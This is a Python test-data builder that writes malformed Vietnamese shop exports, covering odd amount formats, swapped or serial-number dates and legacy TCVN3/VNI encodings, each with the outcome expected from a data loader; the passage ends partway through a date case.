#!/usr/bin/env python
"""Write the malformed-data corpus: one small data folder per way a real shop's export goes
wrong, each with the outcome carework must produce (``expected.toml``).

    python tests/data/malformed/build.py            # rewrite every folder here
    python tests/data/malformed/build.py --out DIR  # write the corpus somewhere else

Everything is deterministic: each case draws from its own seeded generator, legacy encodings are
written as explicit bytes, workbooks with openpyxl (their zip timestamps are the only bytes that
change from one run to the next). ``tests/corpus/test_corpus.py`` loads every folder, checks its
``expected.toml``, and rebuilds the corpus into a temporary folder to catch drift between this
script and the committed files. The expectations describe the behaviour carework is specified to
have, not necessarily what today's loader does; ``README.md`` (written by this script) lists the
cases and explains the ``expected.toml`` keys.
"""

from __future__ import annotations

import argparse
import csv
import io
import json
import random
import re
import shutil
import sys
import unicodedata
import zlib
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, field
from datetime import date, datetime, time, timedelta
from pathlib import Path

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[2]
AS_OF = date(2026, 10, 1)
EXCEL_EPOCH = datetime(1899, 12, 30)
FIXED_STAMP = datetime(2026, 10, 1, 8, 0)
LATEST_TICKET = datetime(2026, 9, 29, 9, 0)  # + 5 hours to answer + 20 to close: before AS_OF

# ------------------------------------------------------------------------------- the people

FAMILY = ["Nguyễn", "Trần", "Lê", "Phạm", "Hoàng", "Huỳnh", "Phan", "Vũ", "Võ", "Đặng", "Bùi",
          "Đỗ", "Hồ", "Ngô", "Dương", "Lý"]
MIDDLE = {"male": ["Văn", "Hữu", "Đức", "Minh", "Quốc", "Thanh", "Gia", "Công"],
          "female": ["Thị", "Ngọc", "Thu", "Mỹ", "Thanh", "Kim", "Phương", "Hồng"]}
GIVEN = {"male": ["An", "Bảo", "Cường", "Dũng", "Hùng", "Khoa", "Long", "Nam", "Phúc", "Quân",
                  "Sơn", "Tuấn", "Việt", "Hiếu", "Trung", "Thắng"],
         "female": ["Anh", "Châu", "Diệp", "Giang", "Hà", "Hạnh", "Hương", "Lan", "Linh", "Mai",
                    "Nhung", "Oanh", "Phương", "Quyên", "Trang", "Vy", "Yến", "Thảo"]}
PROVINCES = ["Hà Nội", "TP Hồ Chí Minh", "Đà Nẵng", "Hải Phòng", "Cần Thơ", "Bình Dương",
             "Đồng Nai", "Khánh Hòa", "Nghệ An", "Thừa Thiên Huế"]
PHONE_PREFIXES = ["090", "091", "093", "094", "096", "097", "098", "086", "088", "070", "077",
                  "079", "081", "083", "085", "032", "033", "035", "037", "039"]
CHANNELS = ["Cửa hàng", "Cửa hàng", "Online", "Shopee", "Facebook", "Zalo"]
CATEGORIES = ["Mỹ phẩm", "Thời trang", "Mẹ và bé", "Gia dụng", "Thực phẩm chức năng"]
STORES = ["CH Hoàn Kiếm", "CH Cầu Giấy", "CH Quận 1", "CH Bình Thạnh"]
PRICES = [99_000, 129_000, 149_000, 199_000, 249_000, 299_000, 350_000, 450_000, 590_000,
          790_000, 1_250_000, 1_890_000]
AGENTS = ["Nguyễn Thị Hoa", "Lê Thu Trang", "Phạm Quốc Bảo", "Đặng Mỹ Linh"]
TICKET_TOPICS = ["Giao hàng chậm", "Sản phẩm lỗi", "Đổi trả", "Thái độ nhân viên",
                 "Thanh toán", "Đóng gói"]
COMMENTS = ["Hàng đẹp, giao nhanh", "Nhân viên tư vấn nhiệt tình", "Giao hàng hơi chậm",
            "Đóng gói cẩn thận", "Giá hơi cao so với chỗ khác", "Sẽ ủng hộ tiếp", "",
            "Shipper giao trễ hẹn", ""]


@dataclass
class Person:
    id: str
    name: str
    phone: str
    province: str
    gender: str


@dataclass
class Order:
    order_id: str
    customer: str
    when: datetime
    amount: int
    channel: str
    category: str
    store: str


def person(rng: random.Random, number: int, prefix: str = "KH") -> Person:
    gender = rng.choice(["male", "female"])
    name = f"{rng.choice(FAMILY)} {rng.choice(MIDDLE[gender])} {rng.choice(GIVEN[gender])}"
    phone = rng.choice(PHONE_PREFIXES) + f"{rng.randrange(10**7):07d}"
    return Person(f"{prefix}{number:04d}", name, phone, rng.choice(PROVINCES),
                  "Nam" if gender == "male" else "Nữ")


def shop(rng: random.Random, customers: int = 12, orders: int = 20,
         start: date = date(2026, 6, 1), end: date = date(2026, 9, 28),
         prices: Sequence[int] = PRICES, first_order: int = 1,
         order_prefix: str = "HD") -> tuple[list[Person], list[Order]]:
    """Customers and their orders between ``start`` and ``end``; every customer buys at least
    once; orders are numbered in date order."""
    people = [person(rng, i) for i in range(1, customers + 1)]
    span = (end - start).days
    drafts = []
    for k in range(orders):
        who = people[k] if k < customers else rng.choice(people)
        day = start + timedelta(days=rng.randrange(span + 1))
        when = datetime.combine(day, time(rng.randrange(8, 21), rng.randrange(60)))
        drafts.append((when, who.id, rng.choice(prices), rng.choice(CHANNELS),
                       rng.choice(CATEGORIES), rng.choice(STORES)))
    drafts.sort()
    out = [Order(f"{order_prefix}{first_order + i:04d}", who, when, amount, channel, cat, store)
           for i, (when, who, amount, channel, cat, store) in enumerate(drafts)]
    return people, out


def lifecycle_shop(rng: random.Random, customers: int, start: date,
                   end: date) -> tuple[list[Person], list[Order]]:
    """Customers who come, buy every few weeks for a while, and leave: enough repeat buying
    (and enough lapsing) for the churn model to fit when forced."""
    people = [person(rng, i) for i in range(1, customers + 1)]
    span = (end - start).days
    last = datetime.combine(end, time(21, 0))
    drafts = []
    for p in people:
        when = datetime.combine(start + timedelta(days=rng.randrange(int(span * 0.8))),
                                time(rng.randrange(8, 21), rng.randrange(60)))
        gap = rng.choice([10, 20, 30, 45, 60, 90])
        leaves = when + timedelta(days=rng.expovariate(1 / 200))
        while when < last and (when < leaves or not any(d[1] == p.id for d in drafts)):
            drafts.append((when, p.id, rng.choice(PRICES), rng.choice(CHANNELS),
                           rng.choice(CATEGORIES), rng.choice(STORES)))
            when += timedelta(days=rng.expovariate(1 / gap) + 1, minutes=rng.randrange(600))
    drafts.sort()
    return people, [Order(f"HD{i:04d}", who, when, amount, channel, cat, store)
                    for i, (when, who, amount, channel, cat, store) in
                    enumerate(drafts, start=1)]


# ------------------------------------------------------------------------------- formats

def vnd(amount: float) -> str:
    """1250000 -> '1.250.000' (Vietnamese thousands)."""
    whole = f"{int(round(amount)):,}".replace(",", ".")
    return whole


def dmy(d: date | datetime) -> str:
    return f"{d.day:02d}/{d.month:02d}/{d.year}"


def dmy_hm(d: datetime) -> str:
    return f"{dmy(d)} {d.hour:02d}:{d.minute:02d}"


def iso(d: datetime) -> str:
    return d.strftime("%Y-%m-%d %H:%M:%S")


def serial(d: datetime) -> float:
    """The Excel serial number of a moment (1900 date system)."""
    delta = d - EXCEL_EPOCH
    return delta.days + delta.seconds / 86400


def csv_text(header: Sequence[str] | None, rows: Iterable[Sequence[object]], *, sep: str = ",",
             newline: str = "\r\n") -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=sep, lineterminator=newline)
    if header is not None:
        writer.writerow(header)
    for row in rows:
        writer.writerow(["" if v is None else v for v in row])
    return buffer.getvalue()


# ------------------------------------------------------------------------------- legacy encodings

# TCVN 5712:1993 "VN3" (the ABC fonts, .VnTime): one byte per lower-case letter in 0xA8-0xFE;
# of the upper-case letters with diacritics only Ă Â Ê Ô Ơ Ư Đ have a code (the others are
# written with the lower-case codes in a capitals font such as .VnTimeH, so names here never
# start with one). Checked against the X11 TCVN-5712 table (apple-open-source/macos,
# X11/xc/extras/X-TrueType/TCVN/TCVNtoUCS2.c) and duydev/vietnamese-conversion src/charsets.ts.
TCVN3_BYTES = {
    "Ă": 0xA1, "Â": 0xA2, "Ê": 0xA3, "Ô": 0xA4, "Ơ": 0xA5, "Ư": 0xA6, "Đ": 0xA7,
    "ă": 0xA8, "â": 0xA9, "ê": 0xAA, "ô": 0xAB, "ơ": 0xAC, "ư": 0xAD, "đ": 0xAE,
    "à": 0xB5, "ả": 0xB6, "ã": 0xB7, "á": 0xB8, "ạ": 0xB9,
    "ằ": 0xBB, "ẳ": 0xBC, "ẵ": 0xBD, "ắ": 0xBE, "ặ": 0xC6,
    "ầ": 0xC7, "ẩ": 0xC8, "ẫ": 0xC9, "ấ": 0xCA, "ậ": 0xCB,
    "è": 0xCC, "ẻ": 0xCE, "ẽ": 0xCF, "é": 0xD0, "ẹ": 0xD1,
    "ề": 0xD2, "ể": 0xD3, "ễ": 0xD4, "ế": 0xD5, "ệ": 0xD6,
    "ì": 0xD7, "ỉ": 0xD8, "ĩ": 0xDC, "í": 0xDD, "ị": 0xDE,
    "ò": 0xDF, "ỏ": 0xE1, "õ": 0xE2, "ó": 0xE3, "ọ": 0xE4,
    "ồ": 0xE5, "ổ": 0xE6, "ỗ": 0xE7, "ố": 0xE8, "ộ": 0xE9,
    "ờ": 0xEA, "ở": 0xEB, "ỡ": 0xEC, "ớ": 0xED, "ợ": 0xEE,
    "ù": 0xEF, "ủ": 0xF1, "ũ": 0xF2, "ú": 0xF3, "ụ": 0xF4,
    "ừ": 0xF5, "ử": 0xF6, "ữ": 0xF7, "ứ": 0xF8, "ự": 0xF9,
    "ỳ": 0xFA, "ỷ": 0xFB, "ỹ": 0xFC, "ý": 0xFD, "ỵ": 0xFE,
}


def tcvn3(text: str) -> bytes:
    out = bytearray()
    for ch in unicodedata.normalize("NFC", text):
        if ch in TCVN3_BYTES:
            out.append(TCVN3_BYTES[ch])
        elif ord(ch) < 0x80:
            out += ch.encode("ascii")
        else:
            raise ValueError(f"TCVN3 has no code for {ch!r} in {text!r}")
    return bytes(out)


# VNI for Windows (VNI-Times): the base letter, then one byte for the vowel's mark and tone, all
# in the Latin-1 range. Checked against lamdao/xvnkb vni.h and duydev/vietnamese-conversion.
_VNI_TONES = {"\u0301": 0, "\u0300": 1, "\u0309": 2, "\u0303": 3, "\u0323": 4}
_VNI_PLAIN = ("ù", "ø", "û", "õ", "ï")          # after a, e, o, u, y, ơ, ư
_VNI_CIRCUMFLEX = ("á", "à", "å", "ã", "ä")     # â ê ô: replaces "â"
_VNI_BREVE = ("é", "è", "ú", "ü", "ë")          # ă: replaces "ê"
_VNI_I = ("í", "ì", "æ", "ó", "ò")              # i has one byte per tone
_VNI_SPECIAL = {"đ": "ñ", "Đ": "Ñ", "ơ": "ô", "Ơ": "Ô", "ư": "ö", "Ư": "Ö", "ỵ": "î", "Ỵ": "Î"}


def vni(text: str) -> bytes:
    out = []
    for ch in unicodedata.normalize("NFC", text):
        if ord(ch) < 0x80:
            out.append(ch)
            continue
        if ch in _VNI_SPECIAL:
            out.append(_VNI_SPECIAL[ch])
            continue
        base, *marks = unicodedata.normalize("NFD", ch)
        upper = base.isupper()
        tone = next((_VNI_TONES[m] for m in marks if m in _VNI_TONES), None)
        shape = next((m for m in marks if m in ("\u0302", "\u0306", "\u031b")), None)
        if shape == "\u031b":                      # ơ ư with a tone
            letter = _VNI_SPECIAL[unicodedata.normalize("NFC", base + shape)]
            suffix = "" if tone is None else _VNI_PLAIN[tone]
        elif base.lower() == "i":
            letter, suffix = "", ("" if tone is None else _VNI_I[tone])
            if tone is None:
                letter = base
        elif shape == "\u0302":
            letter, suffix = base, ("â" if tone is None else _VNI_CIRCUMFLEX[tone])
        elif shape == "\u0306":
            letter, suffix = base, ("ê" if tone is None else _VNI_BREVE[tone])
        else:
            letter, suffix = base, ("" if tone is None else _VNI_PLAIN[tone])
        out.append(letter + (suffix.upper() if upper else suffix))
    return "".join(out).encode("latin-1")


def sloppy_cp1252(data: bytes) -> str:
    """Bytes read as Windows-1252, the five bytes it leaves undefined kept as C1 controls (what
    MySQL's 'latin1' and many export tools do)."""
    return "".join(bytes([b]).decode("cp1252", errors="ignore") or chr(b) for b in data)


def double_utf8(text: str) -> bytes:
    """UTF-8 text read as Windows-1252 and saved again as UTF-8 ("Nguyá»…n")."""
    return sloppy_cp1252(text.encode("utf-8")).encode("utf-8")


def cp1258(text: str) -> bytes:
    if str(ROOT) not in sys.path:
        sys.path.insert(0, str(ROOT))
    from tests.vnfiles import cp1258 as encode

    return encode(text)


# ------------------------------------------------------------------------------- expected.toml

def _toml_value(value: object) -> str:
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int):
        return str(value)
    if isinstance(value, float):
        return repr(value)
    if isinstance(value, datetime):
        return value.isoformat()
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, str):
        return json.dumps(value, ensure_ascii=False)
    if isinstance(value, list | tuple):
        return "[" + ", ".join(_toml_value(v) for v in value) + "]"
    if isinstance(value, dict):
        return "{" + ", ".join(f"{_toml_key(k)} = {_toml_value(v)}"
                               for k, v in value.items()) + "}"
    raise TypeError(type(value))


def _toml_key(key: object) -> str:
    text = str(key)
    return text if re.fullmatch(r"[A-Za-z0-9_-]+", text) else _toml_value(text)


TOP_KEYS = ("category", "what", "outcome", "cli", "error_file", "error_column",
            "error_contains", "notes_on", "file_notes", "never_called", "out_extension")
SECTIONS = ("rows", "rejects", "values", "not_accepted", "sums", "join", "kept_column",
            "ticket_states", "cli_exit")


def toml_text(expected: dict) -> str:
    unknown = set(expected) - set(TOP_KEYS) - set(SECTIONS)
    assert not unknown, unknown
    lines = ["# Written by build.py: change that script, not this file.", ""]
    for key in TOP_KEYS:
        if key in expected:
            lines.append(f"{key} = {_toml_value(expected[key])}")
    for section in SECTIONS:
        if expected.get(section):
            lines += ["", f"[{section}]"]
            for key, value in expected[section].items():
                lines.append(f"{_toml_key(key)} = {_toml_value(value)}")
    return "\n".join(lines) + "\n"


# ------------------------------------------------------------------------------- cases

@dataclass
class Case:
    category: str
    name: str
    what: str
    folder: Path
    rng: random.Random
    expected: dict = field(default_factory=dict)

    @property
    def id(self) -> str:
        return f"{self.category}__{self.name}"

    # files
    def write_bytes(self, name: str, data: bytes) -> None:
        (self.folder / name).write_bytes(data)

    def write_csv(self, name: str, header: Sequence[str] | None,
                  rows: Iterable[Sequence[object]], *, sep: str = ",", bom: bool = True,
                  newline: str = "\r\n", encode: Callable[[str], bytes] | None = None) -> None:
        text = csv_text(header, rows, sep=sep, newline=newline)
        data = encode(text) if encode else text.encode("utf-8")
        if bom and encode is None:
            data = b"\xef\xbb\xbf" + data
        self.write_bytes(name, data)

    def workbook(self):  # noqa: ANN201 — an openpyxl Workbook with fixed properties
        from openpyxl import Workbook

        book = Workbook()
        book.properties.creator = "Nhân viên bán hàng"
        book.properties.created = book.properties.modified = FIXED_STAMP
        return book

    def save(self, book, name: str) -> None:  # noqa: ANN001
        book.save(self.folder / name)

    # expectations
    def ok(self, **rows: tuple[int, int, int]) -> None:
        self.expected["outcome"] = "ok"
        self.expected["rows"] = {t: {"read": r, "accepted": a, "rejected": j}
                                 for t, (r, a, j) in rows.items()}
        for read, accepted, rejected in rows.values():
            assert read == accepted + rejected

    def error(self, file: str, column: str | None = None,
              contains: Sequence[str] = ()) -> None:
        self.expected["outcome"] = "error"
        self.expected["error_file"] = file
        if column:
            self.expected["error_column"] = column
        if contains:
            self.expected["error_contains"] = list(contains)

    def section(self, name: str) -> dict:
        return self.expected.setdefault(name, {})

    def rejects(self, table: str, **reasons: int) -> None:
        self.section("rejects")[table] = {k.replace("__or__", "|"): v
                                          for k, v in reasons.items()}

    def value(self, table_column: str, key: str, value: object) -> None:
        self.section("values").setdefault(table_column, {})[key] = value


CASES: list[tuple[str, str, str, Callable[[Case], None]]] = []


def case(category: str, name: str, what: str) -> Callable:
    def register(func: Callable[[Case], None]) -> Callable[[Case], None]:
        CASES.append((category, name, what, func))
        return func
    return register


TX_HEADER = ["Mã đơn", "Ngày mua", "Mã KH", "Thành tiền", "Kênh", "Nhóm hàng"]
CUST_HEADER = ["Mã KH", "Họ tên", "SĐT", "Tỉnh/Thành", "Giới tính"]


def tx_rows(orders: Sequence[Order], date_text: Callable[[datetime], object] = dmy_hm,
            amount_text: Callable[[int], object] = vnd) -> list[list[object]]:
    return [[o.order_id, date_text(o.when), o.customer, amount_text(o.amount), o.channel,
             o.category] for o in orders]


def cust_rows(people: Sequence[Person]) -> list[list[object]]:
    return [[p.id, p.name, p.phone, p.province, p.gender] for p in people]


def write_plain_shop(c: Case, people: Sequence[Person], orders: Sequence[Order]) -> None:
    c.write_csv("giao_dich.csv", TX_HEADER, tx_rows(orders))
    c.write_csv("khach_hang.csv", CUST_HEADER, cust_rows(people))


def surveys_for(rng: random.Random, people: Sequence[Person], orders: Sequence[Order],
                n: int) -> list[list[object]]:
    """Survey answers a few days after purchases: customer, date, NPS, CSAT, comment."""
    rows = []
    for o in rng.sample(list(orders), n):
        when = o.when + timedelta(days=rng.randrange(1, 4), hours=rng.randrange(3))
        if when.date() >= AS_OF:
            when = o.when + timedelta(hours=2)
        nps = rng.choice([10, 9, 9, 8, 8, 7, 6, 4, 2])
        csat = 5 if nps >= 9 else 4 if nps >= 7 else rng.choice([1, 2, 3])
        rows.append([o.customer, dmy_hm(when), nps, csat, rng.choice(COMMENTS)])
    rows.sort(key=lambda r: datetime.strptime(r[1], "%d/%m/%Y %H:%M"))
    return rows


SURVEY_HEADER = ["Mã KH", "Ngày khảo sát", "Điểm NPS", "Mức độ hài lòng", "Góp ý"]
TICKET_HEADER = ["Mã phiếu", "Mã KH", "Ngày tiếp nhận", "Thời gian phản hồi", "Ngày đóng",
                 "Kênh tiếp nhận", "Loại khiếu nại", "Nhân viên", "Trạng thái"]


def tickets_for(rng: random.Random, orders: Sequence[Order], n: int,
                open_last: int = 2) -> list[list[object]]:
    """Tickets after purchases; the last ``open_last`` still open."""
    rows = []
    chosen = sorted(rng.sample(list(orders), n), key=lambda o: o.when)
    for i, o in enumerate(chosen):
        opened = o.when + timedelta(days=rng.randrange(1, 5), hours=rng.randrange(1, 4))
        opened = min(opened, LATEST_TICKET)
        responded = opened + timedelta(minutes=rng.randrange(10, 300))
        still_open = i >= n - open_last
        closed = None if still_open else opened + timedelta(days=rng.randrange(1, 6))
        if closed and closed.date() >= AS_OF:
            closed = opened + timedelta(hours=20)
        rows.append([f"PH{i + 1:04d}", o.customer, dmy_hm(opened), dmy_hm(responded),
                     "" if closed is None else dmy_hm(closed),
                     rng.choice(["Hotline", "Zalo", "Facebook", "Email"]),
                     rng.choice(TICKET_TOPICS), rng.choice(AGENTS),
                     "Đang xử lý" if still_open else "Đã xử lý"])
    return rows


def contacts_for(rng: random.Random, orders: Sequence[Order], n: int) -> list[list[object]]:
    rows = []
    for o in sorted(rng.sample(list(orders), n), key=lambda o: o.when):
        when = o.when + timedelta(days=rng.randrange(5, 9), hours=1)
        if when.date() >= AS_OF:
            when = o.when + timedelta(hours=5)
        rows.append([o.customer, dmy_hm(when), "Gọi điện", rng.choice(AGENTS),
                     rng.choice(["Đã liên hệ", "Không nghe máy", "Hẹn gọi lại"])])
    return rows


CONTACT_HEADER = ["Mã KH", "Ngày gọi", "Hình thức", "Nhân viên", "Kết quả"]


def full_shop(c: Case, customers: int = 30, orders: int = 90, surveys: int = 25,
              tickets: int = 10, contacts: int = 12, start: date = date(2026, 3, 1),
              end: date = date(2026, 9, 28),
              lifecycle: bool = False) -> tuple[list[Person], list[Order]]:
    """A complete, clean folder (all five tables) big enough for every command; returns the
    people and orders so a case can spoil some of them before writing. ``lifecycle``: orders
    from :func:`lifecycle_shop` (``orders`` is then ignored)."""
    people, orders_ = lifecycle_shop(c.rng, customers, start, end) if lifecycle else \
        shop(c.rng, customers, orders, start, end)
    c.tables = {  # type: ignore[attr-defined]
        "surveys": surveys_for(c.rng, people, orders_, surveys),
        "tickets": tickets_for(c.rng, orders_, tickets),
        "contacts": contacts_for(c.rng, orders_, contacts),
    }
    return people, orders_


def write_full_shop(c: Case, people: Sequence[Person], orders: Sequence[Order],
                    skip: Sequence[str] = ()) -> dict[str, tuple[int, int, int]]:
    write_plain_shop(c, people, orders)
    counts = {"transactions": len(orders), "customers": len(people)}
    files = {"surveys": ("khao_sat.csv", SURVEY_HEADER),
             "tickets": ("phieu_ho_tro.csv", TICKET_HEADER),
             "contacts": ("lien_he.csv", CONTACT_HEADER)}
    for table, (name, header) in files.items():
        if table in skip:
            continue
        rows = c.tables[table]  # type: ignore[attr-defined]
        c.write_csv(name, header, rows)
        counts[table] = len(rows)
    return {t: (n, n, 0) for t, n in counts.items()}


# =============================================================================== amounts

@case("amounts", "stray_decimal",
      "one stray 49.5 in a column of 199.000 values (all other amounts below a million)")
def _(c: Case) -> None:
    people, orders = shop(c.rng, 10, 20, prices=[199_000] * 6 + [99_000, 250_000, 450_000])
    stray = orders[12]
    rows = tx_rows(orders)
    rows[12][3] = "49.5"
    c.write_csv("giao_dich.csv", TX_HEADER, rows)
    c.write_csv("khach_hang.csv", CUST_HEADER, cust_rows(people))
    c.ok(transactions=(20, 19, 1), customers=(10, 10, 0))
    c.rejects("transactions", amount_format_outlier=1)
    c.section("not_accepted")["transactions"] = [stray.order_id]
    for o in (orders[2], orders[13], orders[19]):
        c.value("transactions.amount", o.order_id, float(o.amount))


@case("amounts", "return_without_purchase",
      "returns written (50.000) and 50.000- by customers with no earlier purchase")
def _(c: Case) -> None:
    people, orders = shop(c.rng, 10, 16, start=date(2026, 6, 15))
    extra = person(c.rng, 11)
    rows = tx_rows(orders)
    rows.insert(0, ["TH0001", "03/06/2026 10:15", people[2].id, "(50.000)", "Cửa hàng",
                    "Mỹ phẩm"])
    rows.insert(5, ["TH0002", "20/06/2026 16:40", extra.id, "50.000-", "Cửa hàng", "Mỹ phẩm"])
    c.write_csv("giao_dich.csv", TX_HEADER, rows)
    c.write_csv("khach_hang.csv", CUST_HEADER, cust_rows([*people, extra]))
    assert all(o.when.date() > date(2026, 6, 3) for o in orders if o.customer == people[2].id)
    c.ok(transactions=(18, 16, 2), customers=(11, 11, 0))
    c.rejects("transactions", return_without_purchase=2)
    c.section("not_accepted")["transactions"] = ["TH0001", "TH0002"]
    c.value("transactions.amount", orders[0].order_id, float(orders[0].amount))


@case("amounts", "shorthand",
      "amounts typed as 1,5tr / 500k / 2 triệu / 800K / 3tr among 350.000-style values")
def _(c: Case) -> None:
    people, orders = shop(c.rng, 8, 16)
    rows = tx_rows(orders)
    for i, (text, amount) in zip((1, 4, 7, 10, 13), (("1,5tr", 1_500_000), ("500k", 500_000),
                                                     ("2 triệu", 2_000_000),
                                                     ("800K", 800_000), ("3tr", 3_000_000)),
                                 strict=True):
        rows[i][3] = text
        c.value("transactions.amount", orders[i].order_id, float(amount))
    c.value("transactions.amount", orders[0].order_id, float(orders[0].amount))
    c.write_csv("giao_dich.csv", TX_HEADER, rows)
    c.ok(transactions=(16, 16, 0))


@case("amounts", "currency_glyphs",
      "currency written before or after the number: ₫ 199.000, VND 199.000, VNĐ 1.250.000, "
      "199.000đ")
def _(c: Case) -> None:
    people, orders = shop(c.rng, 8, 14, prices=[199_000, 1_250_000, 350_000])
    styles = ["₫ {}", "VND {}", "{} ₫", "{}đ", "VNĐ {}", "{} VNĐ", "{} VND"]
    rows = tx_rows(orders, amount_text=lambda a: a)
    for i, row in enumerate(rows):
        row[3] = styles[i % len(styles)].format(vnd(orders[i].amount))
        if i < 7:
            c.value("transactions.amount", orders[i].order_id, float(orders[i].amount))
    c.write_csv("giao_dich.csv", TX_HEADER, rows)
    c.ok(transactions=(14, 14, 0))


@case("amounts", "text_not_numbers",
      "NaN, inf, 1e20 and #N/A written in the amount column")
def _(c: Case) -> None:
    people, orders = shop(c.rng, 10, 20)
    rows = tx_rows(orders)
    bad = {3: "NaN", 8: "inf", 12: "1e20", 17: "#N/A"}
    for i, text in bad.items():
        rows[i][3] = text
    c.write_csv("giao_dich.csv", TX_HEADER, rows)
    c.ok(transactions=(20, 16, 4))
    c.rejects("transactions", unparseable_amount=4)
    c.section("not_accepted")["transactions"] = [orders[i].order_id for i in bad]
    c.value("transactions.amount", orders[4].order_id, float(orders[4].amount))


@case("amounts", "implausible_huge",
      "a 999999999999999 amount (a barcode pasted into the amount column)")
def _(c: Case) -> None:
    people, orders = shop(c.rng, 10, 20)
    rows = tx_rows(orders, amount_text=str)
    rows[9][3] = "999999999999999"
    c.write_csv("giao_dich.csv", TX_HEADER, rows)
    c.ok(transactions=(20, 19, 1))
    c.rejects("transactions", implausible_amount=1)
    c.section("not_accepted")["transactions"] = [orders[9].order_id]
    c.value("transactions.amount", orders[10].order_id, float(orders[10].amount))


@case("amounts", "mixed_vn_en_half_half",
      "half the amounts 1.250.000 (Vietnamese), half 1,250,000.50 (English)")
def _(c: Case) -> None:
    people, orders = shop(c.rng, 8, 16, prices=[1_250_000, 1_890_000, 2_450_000, 3_100_000])
    rows = tx_rows(orders)
    for i in range(1, 16, 2):
        rows[i][3] = f"{orders[i].amount:,}.50"
    c.write_csv("giao_dich.csv", TX_HEADER, rows)
    c.error("giao_dich.csv", "amount")


@case("amounts", "nbsp_grouping",
      "control: thousands grouped with spaces and no-break spaces (1 250 000), 99.000 đ")
def _(c: Case) -> None:
    people, orders = shop(c.rng, 8, 14, prices=[1_250_000, 99_000, 450_000])
    rows = tx_rows(orders)
    for i, row in enumerate(rows):
        sep = "\u00a0" if i % 2 else " "
        row[3] = f"{orders[i].amount:,}".replace(",", sep) + (" đ" if i % 3 == 0 else "")
        if i < 4:
            c.value("transactions.amount", orders[i].order_id, float(orders[i].amount))
    c.write_csv("giao_dich.csv", TX_HEADER, rows)
    c.ok(transactions=(14, 14, 0))


# =============================================================================== dates

@case("dates", "excel_day_month_swap",
      "xlsx: US-locale Excel turned dd/mm with day <= 12 into swapped real dates, left the "
      "rest as dd/mm/yyyy text")
def _(c: Case) -> None:
    people, orders = shop(c.rng, 10, 20, start=date(2026, 7, 1), end=date(2026, 9, 28))
    orders[3].when = datetime(2026, 8, 12, 0, 0)   # swapped: 2026-12-08, after the as-of date
    orders[11].when = datetime(2026, 9, 5, 0, 0)   # swapped: 2026-05-09
    book = c.workbook()
    sheet = book.active
    sheet.title = "Giao dịch"
    sheet.append(TX_HEADER)
    swapped = 0
    for o in orders:
        d = o.when.date()
        if d.day <= 12:
            cell_value: object = datetime(d.year, d.day, d.month)
            swapped += 1
        else:
            cell_value = dmy(d)
        sheet.append([o.order_id, cell_value, o.customer, o.amount, o.channel, o.category])
        if isinstance(cell_value, datetime):
            sheet.cell(row=sheet.max_row, column=2).number_format = "m/d/yyyy"
    assert 3 <= swapped <= 17
    c.save(book, "giao_dich.xlsx")
    c.ok(transactions=(20, 20, 0))
    for o in (orders[3], orders[11]):
        c.value("transactions.purchased_at", o.order_id, datetime.combine(o.when.date(), time()))
    late = next(o for o in orders if o.when.day > 12)
    c.value("transactions.purchased_at", late.order_id, datetime.combine(late.when.date(), time()))


@case("dates", "sang_chieu_suffix",
      "times written 25/09/2026 9:30 SA and 26/09/2026 2:15 CH (sáng/chiều for AM/PM)")
def _(c: Case) -> None:
    people, orders = shop(c.rng, 8, 16, start=date(2026, 8, 1), end=date(2026, 9, 24))
    orders.append(Order("HD0017", people[0].id, datetime(2026, 9, 25, 9, 30), 199_000,
                        "Cửa hàng", "Mỹ phẩm", ""))
    orders.append(Order("HD0018", people[1].id, datetime(2026, 9, 26, 14, 15), 350_000,
                        "Online", "Thời trang", ""))
    orders.append(Order("HD0019", people[2].id, datetime(2026, 9, 27, 12, 5), 249_000,
                        "Cửa hàng", "Gia dụng", ""))

    def text(d: datetime) -> str:
        hour = d.hour % 12 or 12
        return f"{dmy(d)} {hour}:{d.minute:02d} {'SA' if d.hour < 12 else 'CH'}"

    c.write_csv("giao_dich.csv", TX_HEADER, tx_rows(orders, date_text=text))
    c.ok(transactions=(19, 19, 0))
    for o in orders[-3:]:
        c.value("transactions.purchased_at", o.order_id, o.when)
    c.value("transactions.purchased_at", orders[0].order_id, orders[0].when)


@case("dates", "two_digit_years", "dates written dd/mm/yy: 25/09/26")
def _(c: Case) -> None:
    people, orders = shop(c.rng, 8, 16, start=date(2026, 6, 1), end=date(2026, 9, 28))
    orders[5].when = datetime(2026, 8, 3, 10, 0)
    orders[6].when = datetime(2026, 9, 25, 15, 0)

    def text(d: datetime) -> str:
        return f"{d.day:02d}/{d.month:02d}/{d.year % 100:02d}"

    c.write_csv("giao_dich.csv", TX_HEADER, tx_rows(orders, date_text=text))
    c.ok(transactions=(16, 16, 0))
    for o in (orders[5], orders[6]):
        c.value("transactions.purchased_at", o.order_id, datetime.combine(o.when.date(), time()))


@case("dates", "excel_serials_in_csv",
      "CSV whose date column holds Excel serial numbers (46290, 46270.5625) with a few "
      "dd/mm/yyyy texts")
def _(c: Case) -> None:
    people, orders = shop(c.rng, 10, 18, start=date(2026, 7, 1), end=date(2026, 9, 28))
    orders[4].when = EXCEL_EPOCH + timedelta(days=46290)
    orders[9].when = EXCEL_EPOCH + timedelta(days=46270, hours=13, minutes=30)
    texts = {2, 15}  # typed by hand: day > 12 so they settle the order
    orders[2].when = datetime(2026, 7, 21, 0, 0)
    orders[15].when = datetime(2026, 9, 14, 0, 0)

    def cell(i: int, o: Order) -> str:
        if i in texts:
            return dmy(o.when)
        if i == 9:
            return f"{serial(o.when):.4f}"            # 46270.5625: a date with its time
        return str(int(serial(datetime.combine(o.when.date(), time()))))

    rows = [[o.order_id, cell(i, o), o.customer, vnd(o.amount), o.channel, o.category]
            for i, o in enumerate(orders)]
    assert rows[4][1] == "46290" and rows[9][1] == "46270.5625"
    c.write_csv("giao_dich.csv", TX_HEADER, rows)
    c.ok(transactions=(18, 18, 0))
    c.value("transactions.purchased_at", orders[4].order_id, datetime(2026, 9, 25))
    c.value("transactions.purchased_at", orders[9].order_id, datetime(2026, 9, 5, 13, 30))
    c.value("transactions.purchased_at", orders[2].order_id, orders[2].when)


@case("dates", "general_serials_in_xlsx",
      "xlsx whose date cells are General-formatted numbers (46287.4375 = 22/09/2026 10:30)")
def _(c: Case) -> None:
    people, orders = shop(c.rng, 10, 18, start=date(2026, 7, 1), end=date(2026, 9, 28))
